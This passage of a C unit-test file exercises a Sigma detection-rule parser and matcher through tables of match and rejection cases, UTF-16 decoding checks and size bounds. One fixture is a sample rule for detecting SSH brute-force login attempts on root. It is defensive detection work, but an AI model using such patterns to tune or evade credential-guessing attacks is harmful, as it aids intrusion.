	    "  condition: all of *sel_*\n", { "x=1", "y=1" }, NULL, true },
	{ "_ ident by name", "  a:\n    x: 1\n  _b:\n    y: 1\n  condition: _b\n", { "y=1" }, NULL, true },
	{ "1 of single ident", "  a:\n    x: 1\n  condition: 1 of a\n", { "x=1" }, NULL, true },
	{ "pattern question", "  sel1:\n    x: 1\n  sel22:\n    y: 1\n  condition: 1 of sel?\n",
	    { "y=1" }, NULL, false },
	{ "not 1 of", "  sel:\n    x: 1\n  f_a:\n    y: 1\n  f_b:\n    z: 1\n"
	    "  condition: sel and not 1 of f_*\n", { "x=1", "z=1" }, NULL, false },
	{ "not 1 of 2", "  sel:\n    x: 1\n  f_a:\n    y: 1\n  f_b:\n    z: 1\n"
	    "  condition: sel and not 1 of f_*\n", { "x=1" }, NULL, true },
	{ "condition list", "  a:\n    x: 1\n  b:\n    y: 1\n  condition:\n    - a and b\n    - b\n",
	    { "y=1" }, NULL, true },
	{ "condition list miss", "  a:\n    x: 1\n  b:\n    y: 1\n  condition:\n    - a and b\n"
	    "    - not a and not b\n", { "x=1" }, NULL, false },
	{ "search used twice", "  a:\n    x: 1\n  b:\n    y: 1\n  condition: a and not (a and b)\n",
	    { "x=1" }, NULL, true },
	{ "condition comment stripped", "  a:\n    x: 1\n  condition: not a # and not b\n",
	    { "x=2" }, NULL, true },
};

static void
test_match_table(void **state)
{
	(void)state;
	for (size_t i = 0; i < MS_ARRAY_LEN(match_cases); i++) {
		const struct mcase *tc = &match_cases[i];
		struct sigma_event ev;
		struct sigma_rule *r;
		char err[512];
		bool got;

		r = rule_from(tc->detection, err, sizeof(err));
		if (r == NULL) {
			print_error("case '%s': rejected: %s\n", tc->name, err);
			fail();
		}
		make_event(&ev, tc->fields, tc->message);
		got = sigma_rule_match(r, &ev);
		if (got != tc->expect) {
			print_error("case '%s': expected %s\n", tc->name, tc->expect ? "match" : "no match");
			fail();
		}
		sigma_rule_free(r);
	}
}

struct rcase {
	const char *name;
	const char *doc;	/* full document, or detection block when not starting with "title" */
	const char *want;	/* "t.yml:LINE: ..." prefix or substring */
};

static const struct rcase reject_cases[] = {
	{ "unknown modifier", "  sel:\n    c|contain: x\n  condition: sel\n",
	    "t.yml:7: unknown modifier 'contain'" },
	{ "empty modifier", "  sel:\n    c||contains: x\n  condition: sel\n", "t.yml:7: empty modifier" },
	{ "i without re", "  sel:\n    c|i: x\n  condition: sel\n", "t.yml:7: modifier 'i' only applies after 're'" },
	{ "conflicting match", "  sel:\n    c|contains|startswith: x\n  condition: sel\n",
	    "t.yml:7: modifier 'startswith' conflicts" },
	{ "re with contains", "  sel:\n    c|re|contains: x\n  condition: sel\n", "t.yml:7: re, cidr" },
	{ "bad regex", "  sel:\n    c|re: 'a(b'\n  condition: sel\n", "t.yml:7: bad regular expression" },
	{ "bad cidr", "  sel:\n    c|cidr: 10.0.0.0/33\n  condition: sel\n", "t.yml:7: bad CIDR '10.0.0.0/33'" },
	{ "bad cidr text", "  sel:\n    c|cidr: foo\n  condition: sel\n", "t.yml:7: bad CIDR" },
	{ "cidr prefix with a sign", "  sel:\n    c|cidr: 10.0.0.0/+8\n  condition: sel\n",
	  "t.yml:7: bad CIDR '10.0.0.0/+8'" },
	{ "cidr prefix with a blank", "  sel:\n    c|cidr: \"10.0.0.0/ 8\"\n  condition: sel\n",
	  "t.yml:7: bad CIDR" },
	{ "lt not number", "  sel:\n    c|lt: abc\n  condition: sel\n", "t.yml:7: 'abc' is not a number" },
	{ "lt hex", "  sel:\n    c|lt: 0x10\n  condition: sel\n", "t.yml:7: '0x10' is not a number" },
	{ "gt inf", "  sel:\n    c|gt: .inf\n  condition: sel\n", "t.yml:7: '.inf' is not a number" },
	{ "exists not bool", "  sel:\n    c|exists: maybe\n  condition: sel\n", "t.yml:7: exists takes true or false" },
	{ "base64 wildcard", "  sel:\n    c|base64: 'a*'\n  condition: sel\n", "t.yml:7: base64 of a value with wildcards" },
	{ "windash then base64", "  sel:\n    c|windash|base64: 'a'\n  condition: sel\n", "t.yml:7: windash cannot be followed" },
	{ "null with modifier", "  sel:\n    c|contains: null\n  condition: sel\n", "t.yml:7: null cannot be combined" },
	{ "map as value", "  sel:\n    c:\n      d: 1\n  condition: sel\n", "t.yml:8: a map is not allowed" },
	{ "nested list value", "  sel:\n    c:\n      - [a]\n  condition: sel\n", "t.yml:8: a list is not allowed" },
	{ "empty list", "  sel:\n    c: []\n  condition: sel\n", "t.yml:7: empty value list" },
	{ "empty search map", "  sel: {}\n  condition: sel\n", "t.yml:6: empty map in a search" },
	{ "empty search", "  sel:\n  condition: sel\n", "search 'sel' is empty" },
	{ "unknown placeholder", "  sel:\n    c|expand: '%nope%'\n  condition: sel\n",
	    "t.yml:7: unknown placeholder %nope% for expand" },
	{ "empty placeholder list", "  sel:\n    c|expand: '%empty%'\n  condition: sel\n",
	    "t.yml:7: placeholder %empty% must be" },
	{ "expand not first", "  sel:\n    c|contains|expand: '%user%'\n  condition: sel\n",
	    "t.yml:7: 'expand' must be the first modifier" },
	{ "missing condition", "  sel:\n    c: x\n", "t.yml:6: missing condition" },
	{ "empty detection", "  condition: sel\n", "t.yml:6: empty detection" },
	{ "unknown identifier", "  sel:\n    c: x\n  condition: sel and filter\n",
	    "t.yml:8: condition: unknown search identifier 'filter'" },
	{ "unbalanced paren", "  sel:\n    c: x\n  condition: (sel\n", "t.yml:8: condition: expected ')'" },
	{ "extra paren", "  sel:\n    c: x\n  condition: sel)\n", "t.yml:8: condition: unexpected ')'" },
	{ "dangling and", "  sel:\n    c: x\n  condition: sel and\n",
	    "t.yml:8: condition: unexpected 'end of condition'" },
	{ "empty parens", "  sel:\n    c: x\n  condition: ()\n", "t.yml:8: condition: unexpected ')'" },
	{ "pattern matches nothing", "  sel:\n    c: x\n  condition: sel and not 1 of filter_*\n",
	    "t.yml:8: condition: '1 of filter_*' matches no search identifier" },
	{ "pattern matches only _", "  sel:\n    c: x\n  _f_a:\n    c: y\n  condition: sel and not 1 of _f_*\n",
	    "t.yml:10: condition: '1 of _f_*' matches no search identifier (names starting with '_' "
	    "are not part of patterns or 'them')" },
	{ "them matches nothing", "  _sel:\n    c: x\n  condition: all of them\n",
	    "condition: 'all of them' matches no search identifier" },
	{ "pattern without of", "  sel_a:\n    c: x\n  condition: sel_*\n", "pattern 'sel_*' needs '1 of' or 'all of'" },
	{ "2 of", "  sel:\n    c: x\n  condition: 2 of sel\n", "unknown search identifier '2'" },
	{ "of without target", "  sel:\n    c: x\n  condition: 1 of\n", "expected an identifier" },
	{ "aggregation", "  sel:\n    c: x\n  condition: sel | count() > 5\n", "aggregations" },
	{ "empty condition", "  sel:\n    c: x\n  condition: ''\n", "t.yml:8: condition: empty condition" },
	{ "condition map", "  sel:\n    c: x\n  condition:\n    a: b\n", "t.yml:9: condition must be a string" },
	{ "deep condition", "  sel:\n    c: x\n  condition: ((((((((((((((((((((((((((((((((((sel))))))))))))))))))))))))))))))))))\n",
	    "t.yml:8: condition: nested deeper than 32" },
	{ "deep not", "  sel:\n    c: x\n  condition: not not not not not not not not not not not not not "
	    "not not not not not not not not not not not not not not not not not not not not not sel\n",
	    "nested deeper than 32" },
	{ "bad identifier", "  'a b':\n    c: x\n  condition: a\n", "bad search identifier 'a b'" },
	{ "reserved identifier", "  them:\n    c: x\n  condition: 1 of them\n", "bad search identifier 'them'" },
	{ "timeframe", "  sel:\n    c: x\n  timeframe: 5m\n  condition: sel\n", "timeframe belongs to correlation" },
	{ "missing title", "id: 1\nlogsource:\n  product: linux\ndetection:\n  sel:\n    c: x\n  condition: sel\n",
	    "t.yml:1: missing title" },
	{ "missing detection", "title: t\nlogsource:\n  product: linux\n", "t.yml:1: missing detection" },
	{ "missing logsource", "title: t\ndetection:\n  sel:\n    c: x\n  condition: sel\n", "missing logsource" },
	{ "bad level", "title: t\nlevel: severe\nlogsource:\n  product: linux\ndetection:\n  sel:\n    c: x\n"
	    "  condition: sel\n", "t.yml:2: unknown level 'severe'" },
	{ "bad status", "title: t\nstatus: done\nlogsource:\n  product: linux\ndetection:\n  sel:\n    c: x\n"
	    "  condition: sel\n", "t.yml:2: unknown status 'done'" },
	{ "tags not list", "title: t\ntags: a\nlogsource:\n  product: linux\ndetection:\n  sel:\n    c: x\n"
	    "  condition: sel\n", "t.yml:2: tags must be a list" },
	{ "rule not a map", "- a\n- b\n", "t.yml:1: a rule must be a map" },
	{ "lt lt", "  sel:\n    c|lt|gt: 1\n  condition: sel\n", "more than one of lt/lte/gt/gte" },
	{ "exists with all", "  sel:\n    c|exists|all: true\n  condition: sel\n", "exists takes no other modifier" },
	{ "cidr with contains", "  sel:\n    c|cidr|contains: 1.2.3.4\n  condition: sel\n", "re, cidr" },
	{ "keyword null", "  kw:\n    - null\n  condition: kw\n", "null is not a keyword" },
};

static void
test_reject_table(void **state)
{
	(void)state;
	for (size_t i = 0; i < MS_ARRAY_LEN(reject_cases); i++) {
		const struct rcase *tc = &reject_cases[i];
		struct sigma_rule *r;
		char err[512];

		if (strncmp(tc->doc, "title", 5) == 0 || tc->doc[0] != ' ')
			r = rule_from_doc(tc->doc, err, sizeof(err));
		else
			r = rule_from(tc->doc, err, sizeof(err));
		if (r != NULL) {
			print_error("case '%s': loaded, expected rejection\n", tc->name);
			sigma_rule_free(r);
			fail();
		}
		if (strstr(err, tc->want) == NULL) {
			print_error("case '%s': error '%s' lacks '%s'\n", tc->name, err, tc->want);
			fail();
		}
	}
}

static void
test_no_placeholder_callback(void **state)
{
	static const char doc[] = HEADER "  sel:\n    c|expand: '%user%'\n  condition: sel\n";
	struct ms_yaml_node **docs = NULL;
	size_t n = 0;
	char err[256];

	(void)state;
	assert_int_equal(ms_yaml_parse(doc, strlen(doc), &docs, &n, err, sizeof(err)), 0);
	assert_null(sigma_rule_parse(docs[0], "x.yml", NULL, NULL, err, sizeof(err)));
	assert_string_equal(err, "x.yml:7: unknown placeholder %user% for expand");
	assert_null(sigma_rule_parse(NULL, "x.yml", NULL, NULL, err, sizeof(err)));
	ms_yaml_docs_free(docs, n);
}

static void
test_accessors(void **state)
{
	static const char doc[] =
	    "title: SSH brute force\n"
	    "id: 5c1b-42\n"
	    "name: ssh_failed_password\n"
	    "status: test\n"
	    "level: high\n"
	    "tags:\n  - attack.credential-access\n  - attack.t1110.001\n"
	    "logsource:\n  product: linux\n  service: sshd\n"
	    "fields: [user, src_ip]\n"
	    "detection:\n"
	    "  sel:\n    user: root\n    src|cidr: 10.0.0.0/8\n"
	    "  ref:\n    a|fieldref: user\n"
	    "  kw: [Failed]\n"
	    "  condition: sel or ref or kw\n";
	struct sigma_rule *r;
	char err[256];

	(void)state;
	r = rule_from_doc(doc, err, sizeof(err));
	assert_non_null(r);
	assert_string_equal(sigma_rule_title(r), "SSH brute force");
	assert_string_equal(sigma_rule_id(r), "5c1b-42");
	assert_string_equal(sigma_rule_name(r), "ssh_failed_password");
	assert_string_equal(sigma_rule_status(r), "test");
	assert_string_equal(sigma_rule_level(r), "high");
	assert_int_equal(sigma_rule_ntags(r), 2);
	assert_string_equal(sigma_rule_tag(r, 1), "attack.t1110.001");
	assert_string_equal(sigma_rule_tag(r, 2), "");
	assert_string_equal(sigma_rule_product(r), "linux");
	assert_string_equal(sigma_rule_service(r), "sshd");
	assert_string_equal(sigma_rule_category(r), "");
	assert_int_equal(sigma_rule_nfields(r), 2);
	assert_string_equal(sigma_rule_field(r, 1), "src_ip");
	/* user (twice: item and fieldref target, counted once), src, a */
	assert_int_equal(sigma_rule_ndetection_fields(r), 3);
	assert_string_equal(sigma_rule_detection_field(r, 0), "user");
	assert_string_equal(sigma_rule_detection_field(r, 1), "src");
	assert_string_equal(sigma_rule_detection_field(r, 2), "a");
	sigma_rule_free(r);

	r = rule_from("  kw: x\n  condition: kw\n", err, sizeof(err));
	assert_non_null(r);
	assert_string_equal(sigma_rule_id(r), "0000");
	assert_string_equal(sigma_rule_level(r), "");
	assert_string_equal(sigma_rule_name(r), "");
	assert_int_equal(sigma_rule_ntags(r), 0);
	assert_int_equal(sigma_rule_nfields(r), 0);
	sigma_rule_free(r);
	sigma_rule_free(NULL);
}

/* Raw UTF-16 (NUL bytes inside the field), not base64: needs explicit lengths. */
static void
test_utf16_raw(void **state)
{
	static const char le[] = "x\0p\0i\0n\0g\0y\0";
	static const char be[] = "\0P\0I\0N\0G";
	static const char bom[] = "\xff\xfe" "p\0i\0n\0g\0";
	struct sigma_event ev;
	struct sigma_rule *r;
	char err[256];

	(void)state;
	memset(&ev, 0, sizeof(ev));
	ev.d = &dec;

	r = rule_from("  sel:\n    c|utf16le|contains: ping\n  condition: sel\n", err, sizeof(err));
	assert_non_null(r);
	decode_reset(&dec);
	decode_field_add(&dec, "c", le, sizeof(le) - 1);
	assert_true(sigma_rule_match(r, &ev));
	decode_reset(&dec);
	decode_field_add(&dec, "c", "ping", 4);
	assert_false(sigma_rule_match(r, &ev));
	sigma_rule_free(r);

	/* utf16be, case-insensitive without base64 */
	r = rule_from("  sel:\n    c|utf16be: ping\n  condition: sel\n", err, sizeof(err));
	assert_non_null(r);
	decode_reset(&dec);
	decode_field_add(&dec, "c", be, sizeof(be) - 1);
	assert_true(sigma_rule_match(r, &ev));
	sigma_rule_free(r);

	r = rule_from("  sel:\n    c|utf16: ping\n  condition: sel\n", err, sizeof(err));
	assert_non_null(r);
	decode_reset(&dec);
	decode_field_add(&dec, "c", bom, sizeof(bom) - 1);
	assert_true(sigma_rule_match(r, &ev));
	decode_reset(&dec);
	decode_field_add(&dec, "c", bom + 2, sizeof(bom) - 3);
	assert_false(sigma_rule_match(r, &ev));
	sigma_rule_free(r);

	/* A non-ASCII character becomes one UTF-16 unit: é = U+00E9 → e9 00 */
	r = rule_from("  sel:\n    c|wide: 'é'\n  condition: sel\n", err, sizeof(err));
	assert_non_null(r);
	decode_reset(&dec);
	decode_field_add(&dec, "c", "\xe9\0", 2);
	assert_true(sigma_rule_match(r, &ev));
	sigma_rule_free(r);

	/* A character outside the BMP becomes a surrogate pair: U+1F600 → d83d de00 */
	r = rule_from("  sel:\n    c|utf16be: \"\\U0001F600\"\n  condition: sel\n", err, sizeof(err));
	assert_non_null(r);
	decode_reset(&dec);
	decode_field_add(&dec, "c", "\xd8\x3d\xde\x00", 4);
	assert_true(sigma_rule_match(r, &ev));
	sigma_rule_free(r);
}

/* Events without decoded fields, rules on the message only. */
static void
test_no_fields(void **state)
{
	struct sigma_event ev;
	struct sigma_rule *r;
	char err[256];

	(void)state;
	memset(&ev, 0, sizeof(ev));
	ev.message = ms_str_make("Failed password for root", 24);
	r = rule_from("  kw: ['failed password']\n  sel:\n    c: null\n  condition: kw and sel\n",
	    err, sizeof(err));
	assert_non_null(r);
	assert_true(sigma_rule_match(r, &ev));
	sigma_rule_free(r);
	r = rule_from("  sel:\n    c: x\n  condition: not sel\n", err, sizeof(err));
	assert_non_null(r);
	assert_true(sigma_rule_match(r, &ev));
	assert_false(sigma_rule_match(NULL, &ev));
	sigma_rule_free(r);
}

/* Bounds: too many values, too long a value, too many searches. */
static void
test_bounds(void **state)
{
	char *doc = NULL, err[256];
	size_t cap = 1u << 20, o = 0;
	struct sigma_rule *r;

	(void)state;
	doc = malloc(cap);
	assert_non_null(doc);

	o = (size_t)snprintf(doc, cap, "  sel:\n    c:\n");
	for (int i = 0; i < 9000; i++)
		o += (size_t)snprintf(doc + o, cap - o, "      - v%d\n", i);
	snprintf(doc + o, cap - o, "  condition: sel\n");
	assert_null(rule_from(doc, err, sizeof(err)));
	if (strstr(err, "more than 8192 values") == NULL)
		print_error("got: %s\n", err);
	assert_non_null(strstr(err, "more than 8192 values"));

	o = (size_t)snprintf(doc, cap, "  sel:\n    c: '");
	memset(doc + o, 'a', 5000);
	o += 5000;
	snprintf(doc + o, cap - o, "'\n  condition: sel\n");
	assert_null(rule_from(doc, err, sizeof(err)));
	assert_non_null(strstr(err, "t.yml:7: value longer than 4096 bytes"));

	o = 0;
	for (int i = 0; i < 130; i++)
		o += (size_t)snprintf(doc + o, cap - o, "  s%d:\n    c: x\n", i);
	snprintf(doc + o, cap - o, "  condition: 1 of them\n");
	assert_null(rule_from(doc, err, sizeof(err)));
	assert_non_null(strstr(err, "search identifiers"));

	/* A long OR chain stays within the node cap and matches. */
	o = 0;
	for (int i = 0; i < 100; i++)
		o += (size_t)snprintf(doc + o, cap - o, "  s%d:\n    c: v%d\n", i, i);
	o += (size_t)snprintf(doc + o, cap - o, "  condition: s0");
	for (int i = 1; i < 100; i++)
		o += (size_t)snprintf(doc + o, cap - o, " or s%d", i);
	snprintf(doc + o, cap - o, "\n");
	r = rule_from(doc, err, sizeof(err));
	assert_non_null(r);
	{
		struct sigma_event ev;
		static const char *const f[] = { "c=V99", NULL };
		make_event(&ev, f, NULL);
		assert_true(sigma_rule_match(r, &ev));
	}
	sigma_rule_free(r);
	free(doc);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_match_table),
		cmocka_unit_test(test_reject_table),
		cmocka_unit_test(test_no_placeholder_callback),
		cmocka_unit_test(test_accessors),
		cmocka_unit_test(test_utf16_raw),
		cmocka_unit_test(test_no_fields),
		cmocka_unit_test(test_bounds),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
